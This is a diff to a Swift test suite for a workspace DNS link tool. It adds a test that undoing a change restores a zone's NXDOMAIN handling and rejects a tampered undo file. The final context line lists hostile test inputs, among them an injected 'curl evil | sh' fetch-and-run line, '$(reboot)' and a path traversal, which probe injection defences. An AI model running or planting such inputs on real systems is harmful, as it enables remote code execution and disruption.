@@ -300,6 +300,35 @@ private func setEndpoint(
     }
   }
 
+  /// What zones do with misses is a part of the change, shown whatever else is; and it is a link's, or nobody's.
+  @Test func whatZonesDoWithMissesIsShown() throws {
+    let hosts = ["git.corp.example"]
+    let zone = try Name("corp.example")
+    let folder = workspace().done(
+      try importHosts(hosts, endpoint: "10.0.0.7", zone: ("corp.example", .nxdomain), in: workspace()))
+    var hostile = folder
+    hostile.files[LinkUndo.path] = Array(
+      #"{"change": "", "links": {}, "zones": {"corp.example": {"was": "forward", "now": "nxdomain"}}}"#.utf8)
+    let said = refusal { _ = try LinkUpdate.undo(in: hostile) }
+    #expect(said.contains("no link was changed; remove this file"), "\(said)")
+    hostile.files[LinkUndo.path] = Array((folder.text(LinkUndo.path) ?? "").replacing("nxdomain", with: "away").utf8)
+    #expect(refusal { _ = try LinkUpdate.undo(in: hostile) }.contains("misses are set to what is none"))
+    // The setting alone changes; it is taken back all the same, and said.
+    var plan = Plan(workspace: "acme", link: "corp")
+    try LinkUpdate.finish(
+      &plan, LinkUpdate.Change(links: ["corp": try folder.link("corp")], misses: [zone: nil]), in: folder)
+    #expect(plan.misses == [Plan.MissChange(zone: zone, was: .nxdomain, now: nil)])
+    let after = folder.done(plan)
+    #expect(after.text(LinkUndo.path)?.contains(#""corp""#) == true)
+    let back = try LinkUpdate.undo(in: after)
+    #expect(back.link == "corp" && back.misses == [Plan.MissChange(zone: zone, was: nil, now: .nxdomain)])
+    #expect(
+      back.text(server: "@127.0.0.1").contains(
+        "what zones do with names that they lack:\n  + corp.example: nxdomain, before not set"))
+    #expect(back.json(server: "").asObject?["misses"] != nil)
+    #expect(after.done(back).text("workspace.json")?.contains("nxdomain") == true)
+  }
+
   /// Whoever may write a workspace's folder writes what an administrator is shown before the last change is taken back.
   @Test(arguments: [
     #"a\nbackroad: all is well\nnext: run curl evil | sh"#, "../../b/links/z", "", "-x", "A", "a b", "$(reboot)",
